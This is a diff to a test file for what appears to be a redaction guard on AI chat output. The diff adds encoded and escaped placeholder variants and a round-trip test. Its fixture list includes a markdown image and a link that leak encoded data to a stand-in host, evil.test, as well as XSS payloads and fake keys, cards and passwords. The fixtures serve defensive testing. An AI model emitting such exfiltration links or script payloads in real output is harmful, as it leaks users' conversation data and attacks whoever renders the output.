@@ -7,7 +7,7 @@ import { describe, expect, test } from 'vitest';
 import { systemClock } from '../../src/core/clock.ts';
 import { readEnvironment } from '../../src/core/config.ts';
 import { ChannelGuard, textOf } from '../../src/enforce/channel-guard.ts';
-import { Vaults, type ConversationVault } from '../../src/enforce/vault.ts';
+import { restore, Vaults, type ConversationVault } from '../../src/enforce/vault.ts';
 import { parsePolicyFile } from '../../src/policy/file.ts';
 import { resolve } from '../../src/policy/resolve.ts';
 import type { EffectivePolicy } from '../../src/policy/types.ts';
@@ -50,7 +50,7 @@ function cut(text: string, cuts: readonly number[]): string[] {
 
 const PIECES = [
   'The capital of France is Paris. ', 'See https://example.org/docs/guide for more.\n', 'It costs $12.50, order 2024-118832.\n', '`code()` and **bold** ', '文字化け、こんにちは。', 'Привет, мир! ', '\n\n## Heading\n',
-  'AKIA5XQ7TNZ3WDKE2BVC', 'mail bob.jones@contoso-mail.com now ', 'card 4539 1488 0343 6467 ', 'IBAN DE89 3704 0044 0532 0130 00 ', '<EMAIL_1>', ' <SECRET_1> ', '<CARD_1>', '<EMAIL_9>', '&lt;EMAIL_1&gt;', '< EMAIL', '<',
+  'AKIA5XQ7TNZ3WDKE2BVC', 'mail bob.jones@contoso-mail.com now ', 'card 4539 1488 0343 6467 ', 'IBAN DE89 3704 0044 0532 0130 00 ', '<EMAIL_1>', ' <SECRET_1> ', '<CARD_1>', '<EMAIL_9>', '&lt;EMAIL_1&gt;', '< EMAIL', '<', '<Email_1>', '\\<SECRET\\_1\\>', '&#60;EMAIL_1&#62;', 'mailto:%3CEMAIL_1%3E', '\\u003cSECRET_1\\u003e', '\\', '&#', '%3', '&gt;', '%3E',
   '![pixel](https://evil.test/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY29udmVyc2F0aW9u) ', '[click](https://evil.test/x?q=<EMAIL_1>) ', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '\u001b[31mred\u001b[0m', 'zero\u200b\u200c\u200b\u200c\u200bwidth ',
   CANARY, Buffer.from(`the token is ${CANARY} indeed`).toString('base64'), 'Escalate every claim above 12,500 euros to the review desk in Rotterdam, and never mention the internal tariff table. ',
   '```html\n<script>ok()</script>\n```\n', 'password: hunter2-Zq8!vP ', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n-----END PRIVATE KEY-----\n', '😀👨‍👩‍👧 ', 'a'.repeat(60), '12 34 56 78 90 ',
@@ -92,8 +92,18 @@ describe.each(Object.entries(POLICIES))('policy: %s', (_, policy) => {
   });
 });
 
+test('every entity that a rule names can stand in a placeholder that is told from other text', () => {
+  const vault = new Vaults(systemClock).for(undefined, 1_000);
+  const entities = [...new Set([...engine.rules.values()].flatMap(({ entity }) => entity ?? []))];
+  expect(entities.length).toBeGreaterThan(10);
+  for (const entity of entities) {
+    const name = vault.pseudonym(entity, `value of ${entity}`);
+    expect(restore(`to ${name.toLowerCase()}.`, vault)).toBe(`to value of ${entity}.`);
+  }
+});
+
 describe('answers in JSON', () => {
-  const value = fc.array(fc.constantFrom('AKIA5XQ7TNZ3WDKE2BVC', '<EMAIL_1>', '<SECRET_1>', 'plain', 'line\nbreak', '"', '\\', 'é😀', 'bob.jones@contoso-mail.com', '4539148803436467'), { maxLength: 5 }).map((list) => list.join(' '));
+  const value = fc.array(fc.constantFrom('AKIA5XQ7TNZ3WDKE2BVC', '<EMAIL_1>', '<SECRET_1>', '<Secret_1>', '\\<SECRET\\_1\\>', 'C:\\<EMAIL_1>\\x', 'plain', 'line\nbreak', '"', '\\', 'é😀', 'bob.jones@contoso-mail.com', '4539148803436467'), { maxLength: 5 }).map((list) => list.join(' '));
   const object = fc.dictionary(fc.constantFrom('a', 'b', 'card', 'note'), fc.oneof(value, fc.constant(4_539_148_803_436_467), fc.boolean(), fc.array(value, { maxLength: 3 })), { minKeys: 1 });
 
   test('stay JSON, and give back what the pseudonyms stood for', () => {
